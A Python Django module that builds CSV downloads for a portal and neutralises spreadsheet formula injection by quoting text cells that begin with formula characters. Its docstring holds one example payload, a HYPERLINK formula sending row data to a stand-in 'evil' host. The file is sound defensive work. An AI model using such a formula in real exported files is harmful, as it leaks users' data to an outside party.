"""CSV files the portal writes: one place that makes them safe to open in a spreadsheet.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some programs
skip before looking for those) is run as a formula by Excel, LibreOffice and WPS: a credential
named `=HYPERLINK("http://evil/?"&A1, "Open")` would become a live link leaking the row. Such
text cells get a leading single quote, which spreadsheets show as text (OWASP's advice). Full-width
＝ ＋ － ＠ are treated the same, because East Asian spreadsheet programs accept them for formulas.

Cells written from numbers (int, float, Decimal) are left as they are, so `-3` stays a number that
sums: a number that Python formatted cannot carry a formula. Only text is neutralised, even when
it merely looks like a number ("-3" as text becomes "'-3").
"""

import csv
from collections.abc import Iterable
from decimal import Decimal

from django.http import HttpResponse
from django.utils.http import content_disposition_header

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def csv_safe(value):
    """One cell's value, with text that a spreadsheet would run as a formula neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_response(filename: str, header: Iterable, rows: Iterable[Iterable]) -> HttpResponse:
    """A CSV download: UTF-8 with a BOM (so spreadsheets read Chinese correctly), every cell safe."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    response.write("\ufeff")
    writer = csv.writer(response)
    writer.writerow([csv_safe(cell) for cell in header])
    for row in rows:
        writer.writerow([csv_safe(cell) for cell in row])
    return response
